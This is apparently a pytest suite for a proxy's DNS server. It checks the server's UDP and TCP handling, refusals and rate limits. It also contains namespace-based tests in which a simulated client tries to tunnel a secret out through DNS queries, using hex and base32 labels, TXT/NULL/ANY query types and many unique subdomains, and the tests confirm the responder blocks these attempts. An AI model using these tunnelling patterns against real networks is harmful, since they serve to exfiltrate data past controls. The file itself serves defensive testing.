"""The crew DNS server on real sockets (proxycore/io/dns_server.py), and the exfiltration tests.

The exfiltration tests (root) put a counting nameserver (tests/dns_server.py, which logs every
query it gets) in a network namespace of their own behind a veth, make the responder resolve
through it with the proxy's resolver, and play a crew that tries to tunnel data out through its
queries: long labels, TXT, many unique names under a domain FREE mode lets it resolve. The
nameserver's log then shows what left: nothing of the tunnel but the few names the per-crew
upstream budget let through.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import random
import shutil
import socket
import struct
import subprocess
import sys
import uuid
from collections.abc import Iterator, Sequence
from pathlib import Path

import dns.message
import dns.rcode
import pytest
import trio

from proxycore.io.dns import Resolver
from proxycore.io.dns_server import DnsServer, proxy_resolve
from proxycore.protocol.dns_responder import DnsLimits, DnsRefusal, DnsResponder
from proxycore.protocol.policy import Allowlist, CrewPolicy, NetworkMode

WIDE = DnsLimits(queries_rate=1e6, queries_burst=1e6, names_rate=1e6, names_burst=1e6)


def query(name: str, rdtype: str = "A") -> bytes:
    return dns.message.make_query(name, rdtype).to_wire()


class Harness:
    def __init__(
        self,
        mode: NetworkMode = NetworkMode.RESTRICTED,
        allow: Sequence[str] = ("api.example.com",),
        limits: DnsLimits = WIDE,
    ) -> None:
        self.responder = DnsResponder(CrewPolicy("crew-a", mode, Allowlist(allow)), limits=limits)
        self.table: dict[str, list[str]] = {"api.example.com": ["93.184.216.34", "2606:2800::1"]}
        self.resolved: list[str] = []
        self.hooked: list[tuple[str, tuple[str, ...], int]] = []
        self.journal: list[DnsRefusal] = []
        self.hook_fails = False
        self.resolve_hangs = False
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.address = self.udp.getsockname()
        self.tcp_address = self.tcp.getsockname()

    async def resolve(self, name: str) -> Sequence[str]:
        self.resolved.append(name)
        if self.resolve_hangs:
            await trio.sleep_forever()
        await trio.sleep(0.01)
        if name not in self.table:
            raise LookupError(name)
        return self.table[name]

    async def before_answer(self, crew: str, addresses: Sequence[str], ttl: int) -> None:
        await trio.sleep(0.01)
        if self.hook_fails:
            raise RuntimeError("nft said no")
        self.hooked.append((crew, tuple(addresses), ttl))

    def server(self, **kwargs: float) -> DnsServer:
        return DnsServer(
            self.responder,
            resolve=self.resolve,
            before_answer=self.before_answer,
            journal=self.journal.append,
            **kwargs,  # type: ignore[arg-type]
        )


async def ask_udp(address: tuple[str, int], wire: bytes, timeout: float = 2.0) -> bytes | None:
    sock = trio.socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with sock:
        await sock.sendto(wire, address)
        with trio.move_on_after(timeout):
            data, _ = await sock.recvfrom(65535)
            return data
    return None


async def test_udp_answers_after_the_hook_took_the_addresses(nursery):
    h = Harness()
    await nursery.start(h.server().serve, h.udp, h.tcp)
    data = await ask_udp(h.address, query("api.example.com"))
    assert data is not None
    message = dns.message.from_wire(data)
    assert [r.address for r in message.answer[0]] == ["93.184.216.34"]
    assert h.hooked == [("crew-a", ("93.184.216.34", "2606:2800::1"), 60)]
    # From the cache: no second resolution, no second hook call.
    data = await ask_udp(h.address, query("api.example.com", "AAAA"))
    assert data is not None and dns.message.from_wire(data).answer[0][0].address == "2606:2800::1"
    assert h.resolved == ["api.example.com"] and len(h.hooked) == 1


async def test_udp_refusals_and_garbage_do_not_end_the_server(nursery):
    h = Harness()
    await nursery.start(h.server().serve, h.udp, h.tcp)
    refused = await ask_udp(h.address, query("evil.example.org"))
    assert refused is not None and dns.message.from_wire(refused).rcode() == dns.rcode.NXDOMAIN
    assert await ask_udp(h.address, b"\x00", timeout=0.2) is None
    # Longer than any query: read truncated, still too long, dropped (never answered as the
    # query it was cut to).
    assert await ask_udp(h.address, query("api.example.com") + b"\x00" * 4000, 0.2) is None
    formerr = await ask_udp(h.address, b"\x01\x02\x01\x00\x00\x01" + b"\x00" * 6 + b"\xff\xff")
    assert formerr is not None and dns.message.from_wire(formerr).rcode() == dns.rcode.FORMERR
    txt = await ask_udp(h.address, query("api.example.com", "TXT"))
    assert txt is not None and dns.message.from_wire(txt).rcode() == dns.rcode.REFUSED
    ok = await ask_udp(h.address, query("api.example.com"))
    assert ok is not None and dns.message.from_wire(ok).rcode() == dns.rcode.NOERROR
    assert {e.rule for e in h.journal} >= {"not_in_allowlist", "malformed_query", "qtype"}


async def test_a_failing_hook_or_resolver_is_servfail_for_that_query_only(nursery):
    h = Harness(mode=NetworkMode.FREE)
    await nursery.start(h.server().serve, h.udp, h.tcp)
    h.hook_fails = True
    failed = await ask_udp(h.address, query("api.example.com"))
    assert failed is not None and dns.message.from_wire(failed).rcode() == dns.rcode.SERVFAIL
    assert h.journal[-1].rule == "before_answer_failed"
    missing = await ask_udp(h.address, query("nowhere.example.com"))
    assert missing is not None and dns.message.from_wire(missing).rcode() == dns.rcode.SERVFAIL
    h.hook_fails = False
    h.table["other.example.com"] = ["8.8.8.8"]
    ok = await ask_udp(h.address, query("other.example.com"))
    assert ok is not None and dns.message.from_wire(ok).answer[0][0].address == "8.8.8.8"


async def test_a_hanging_resolver_times_out_as_servfail(nursery):
    h = Harness()
    h.resolve_hangs = True
    await nursery.start(h.server(resolve_timeout=0.2).serve, h.udp, h.tcp)
    failed = await ask_udp(h.address, query("api.example.com"))
    assert failed is not None and dns.message.from_wire(failed).rcode() == dns.rcode.SERVFAIL
    assert h.journal[-1].rule == "resolution_timeout"


async def tcp_connect(address: tuple[str, int]) -> trio.SocketStream:
    return await trio.open_tcp_stream(*address)


async def read_message(stream: trio.SocketStream, buffer: bytearray | None = None) -> bytes | None:
    """One length-prefixed message; `buffer` keeps what was read past it for the next call."""
    if buffer is None:
        buffer = bytearray()
    while len(buffer) < 2 or len(buffer) < 2 + struct.unpack(">H", buffer[:2])[0]:
        chunk = await stream.receive_some(4096)
        if not chunk:
            return None
        buffer += chunk
    length = struct.unpack(">H", buffer[:2])[0]
    message = bytes(buffer[2 : 2 + length])
    del buffer[: 2 + length]
    return message


async def test_tcp_answers_pipelined_queries_in_order(nursery):
    h = Harness()
    await nursery.start(h.server().serve, h.udp, h.tcp)
    stream = await tcp_connect(h.tcp_address)
    async with stream:
        wires = [query("api.example.com"), query("evil.example.org"), query("api.example.com")]
        # All three in one write, the length prefixes split across segments for good measure.
        payload = b"".join(struct.pack(">H", len(w)) + w for w in wires)
        await stream.send_all(payload[:1])
        await stream.send_all(payload[1:])
        rcodes = []
        buffer = bytearray()
        for _ in wires:
            data = await read_message(stream, buffer)
            assert data is not None
            rcodes.append(dns.message.from_wire(data).rcode())
        assert rcodes == [dns.rcode.NOERROR, dns.rcode.NXDOMAIN, dns.rcode.NOERROR]


async def test_tcp_closes_on_an_oversized_length_and_when_idle(nursery):
    h = Harness()
    await nursery.start(h.server(tcp_idle=0.3).serve, h.udp, h.tcp)
    stream = await tcp_connect(h.tcp_address)
    async with stream:
        await stream.send_all(b"\xff\xff" + b"\x00" * 100)
        with trio.fail_after(2):
            assert await stream.receive_some(100) == b""
    stream = await tcp_connect(h.tcp_address)
    async with stream:
        await stream.send_all(b"\x00\x20\x00")  # one octet of a 32-octet message, then nothing
        with trio.fail_after(2):
            assert await stream.receive_some(100) == b""


async def test_tcp_connections_are_bounded(nursery):
    h = Harness()
    await nursery.start(h.server(max_tcp=2, tcp_idle=5).serve, h.udp, h.tcp)
    held = [await tcp_connect(h.tcp_address) for _ in range(2)]
    await trio.sleep(0.1)
    extra = await tcp_connect(h.tcp_address)
    with trio.fail_after(2):
        assert await extra.receive_some(100) == b""
    for stream in held:
        await stream.aclose()
    await trio.sleep(0.1)
    stream = await tcp_connect(h.tcp_address)
    async with stream:
        wire = query("api.example.com", "HTTPS")
        await stream.send_all(struct.pack(">H", len(wire)) + wire)
        with trio.fail_after(2):
            assert await read_message(stream) is not None


async def test_queries_over_the_crews_rate_get_no_answer(nursery):
    h = Harness(limits=DnsLimits(queries_rate=1, queries_burst=5))
    await nursery.start(h.server().serve, h.udp, h.tcp)
    answered = 0
    for _ in range(10):
        if await ask_udp(h.address, query("api.example.com", "HTTPS"), timeout=0.1) is not None:
            answered += 1
    assert answered in (5, 6)  # the burst, and perhaps a token refilled meanwhile
    assert any(e.rule == "rate_limited_queries" for e in h.journal)


# -- exfiltration, through a counting nameserver in a namespace of its own ---------------------

NEEDS_ROOT = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("ip") is None, reason="needs root and iproute2"
)


@pytest.fixture
def upstream(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """A scripted nameserver (tests/dns_server.py) in its own namespace behind a veth; yields
    its address and the log it writes one line to per query it receives."""
    tag = uuid.uuid4().hex[:6]
    name, host_end = f"apx-dnsup-{tag}", f"vdns{tag}"
    subnet = random.randrange(0, 256)
    host_address, inner_address = f"10.213.{subnet}.1", f"10.213.{subnet}.2"
    plan = tmp_path / "plan.json"
    # Every name the crew could ask answers, so a query's absence from the log is the
    # responder's doing, never the nameserver's.
    names = {"api.example.com": [["93.184.216.34"]], "tunnel.example": [["93.184.216.35"]]}
    names.update({f"w{i}.tunnel.example": [["93.184.216.36"]] for i in range(400)})
    plan.write_text(json.dumps(names))
    log = tmp_path / "upstream.log"
    log.touch()
    run = subprocess.run
    run(["ip", "netns", "add", name], check=True)
    process = None
    try:
        run(["ip", "-n", name, "link", "set", "lo", "up"], check=True)
        run(
            ["ip", "link", "add", host_end, "type", "veth", "peer", "name", "eth0", "netns", name],
            check=True,
        )
        run(["ip", "addr", "add", f"{host_address}/30", "dev", host_end], check=True)
        run(["ip", "link", "set", host_end, "up"], check=True)
        run(["ip", "-n", name, "addr", "add", f"{inner_address}/30", "dev", "eth0"], check=True)
        run(["ip", "-n", name, "link", "set", "eth0", "up"], check=True)
        server = Path(__file__).resolve().parent / "dns_server.py"
        argv = ["ip", "netns", "exec", name, sys.executable, str(server), inner_address, "53"]
        process = subprocess.Popen(
            [*argv, str(plan), str(log)],
            stdout=subprocess.PIPE,
        )
        assert process.stdout is not None and process.stdout.readline().strip() == b"ready"
        yield inner_address, log
    finally:
        if process is not None:
            process.kill()
            process.wait()
        run(["ip", "link", "del", host_end], check=False)
        run(["ip", "netns", "del", name], check=False)


def upstream_queries(log: Path) -> list[tuple[str, str]]:
    return [tuple(line.split()[:2]) for line in log.read_text().splitlines()]  # type: ignore[misc]


async def crew_asks(address: tuple[str, int], wires: Sequence[bytes]) -> list[int | None]:
    """Send the queries from one socket, a few at a time; the rcode of each answer or None."""
    out: list[int | None] = []
    for wire in wires:
        data = await ask_udp(address, wire, timeout=1.0)
        out.append(None if data is None else dns.message.from_wire(data).rcode())
    return out


@NEEDS_ROOT
@pytest.mark.netns
async def test_exfiltration_through_queries_leaves_nothing_upstream(nursery, upstream):
    nameserver, log = upstream
    limits = DnsLimits(queries_rate=1e6, queries_burst=1e6, names_rate=0.2, names_burst=10)
    h = Harness(mode=NetworkMode.FREE, limits=limits)
    resolver = Resolver({}, (nameserver,), timeout=2.0)
    server = DnsServer(
        h.responder,
        resolve=proxy_resolve(resolver, trio.CapacityLimiter(8)),
        before_answer=h.before_answer,
        journal=h.journal.append,
    )
    await nursery.start(server.serve, h.udp, h.tcp)

    # The allowed name works, through the namespace, and is asked upstream once.
    assert await crew_asks(h.address, [query("api.example.com")] * 5) == [0] * 5
    before = upstream_queries(log)
    assert sorted(before) == [("api.example.com", "A"), ("api.example.com", "AAAA")]

    # Fixed, so that which labels pass the entropy check does not vary from run to run.
    data = b"".join(hashlib.sha256(b"secret %d" % i).digest() for i in range(6))
    secret = data.hex()
    b32 = base64.b32encode(data).decode().lower().rstrip("=")
    # 1. Long labels: 63-octet chunks of hex, the iodine/dnscat2 shape; and base32 in 48s.
    long_labels = [query(f"{secret[i : i + 63]}.tunnel.example") for i in range(0, 378, 63)]
    long_labels += [query(f"{b32[i : i + 48]}.tunnel.example") for i in range(0, 288, 48)]
    # 2. Hex in 20-character labels, two labels a name.
    hex_labels = [
        query(f"{secret[i : i + 20]}.{secret[i + 20 : i + 40]}.tunnel.example")
        for i in range(0, 360, 40)
    ]
    # 3. TXT, NULL, ANY and the like for the tunnel's domain and an allowed name.
    carriers = [
        query(name, rdtype)
        for name in ("tunnel.example", "w1.tunnel.example", "api.example.com")
        for rdtype in ("TXT", "NULL", "ANY", "MX", "CNAME", "SRV")
    ]
    assert set(await crew_asks(h.address, long_labels)) == {dns.rcode.REFUSED}
    assert set(await crew_asks(h.address, hex_labels)) == {dns.rcode.REFUSED}
    assert set(await crew_asks(h.address, carriers)) == {dns.rcode.REFUSED}
    assert upstream_queries(log) == before
    # 4. Base32 in 32-character labels: the entropy check refuses most, not all.
    dense = [query(f"{b32[i : i + 32]}.tunnel.example") for i in range(0, 288, 32)]
    dense_answers = await crew_asks(h.address, dense)
    assert dense_answers.count(dns.rcode.REFUSED) >= 6, dense_answers
    # 5. Many unique names that pass every label check: only the upstream budget (a burst of
    #    10 names, then one every five seconds) goes out.
    words = [query(f"w{i}.tunnel.example") for i in range(300)]
    answers = await crew_asks(h.address, words)
    assert answers.count(dns.rcode.NOERROR) <= 11
    assert answers.count(dns.rcode.REFUSED) >= 289

    left = upstream_queries(log)
    names = {name for name, _ in left}
    assert all(kind in ("A", "AAAA") for _, kind in left), left
    # Nothing of the secret in a long label or as hex; what left is bounded by the budget.
    assert not any(len(label) > 40 for name in names for label in name.split("."))
    assert not any(secret[i : i + 20] in name for name in names for i in range(0, 360, 20))
    tunnel_names = names - {"api.example.com"}
    assert len(tunnel_names) <= 11, sorted(tunnel_names)
    assert {e.rule for e in h.journal} >= {
        "label_too_long",
        "label_hex",
        "qtype",
        "rate_limited_names",
    }


@NEEDS_ROOT
@pytest.mark.netns
async def test_a_restricted_crew_sends_nothing_upstream_but_its_allowed_names(nursery, upstream):
    nameserver, log = upstream
    h = Harness(mode=NetworkMode.RESTRICTED)
    resolver = Resolver({}, (nameserver,), timeout=2.0)
    server = DnsServer(
        h.responder,
        resolve=proxy_resolve(resolver, trio.CapacityLimiter(8)),
        before_answer=h.before_answer,
        journal=h.journal.append,
    )
    await nursery.start(server.serve, h.udp, h.tcp)
    unique = [query(f"w{i}.tunnel.example") for i in range(200)]
    assert set(await crew_asks(h.address, unique)) == {dns.rcode.NXDOMAIN}
    assert await crew_asks(h.address, [query("api.example.com")] * 20) == [0] * 20
    assert sorted(upstream_queries(log)) == [("api.example.com", "A"), ("api.example.com", "AAAA")]
    assert h.hooked == [("crew-a", ("93.184.216.34",), 60)]
